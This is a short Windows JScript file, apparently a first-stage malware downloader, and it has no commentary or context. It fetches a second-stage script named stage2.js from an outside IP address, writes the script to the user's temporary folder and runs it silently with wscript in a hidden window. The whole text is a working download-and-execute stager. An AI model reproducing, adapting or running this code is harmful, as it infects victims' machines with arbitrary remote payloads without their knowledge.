var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://192.0.2.140/inv/stage2.js", false);
x.send();
var sh = new ActiveXObject("WScript.Shell");
var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\iv.js";
var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(p, true);
f.Write(x.responseText); f.Close();
sh.Run("wscript //b \"" + p + "\"", 0, false);
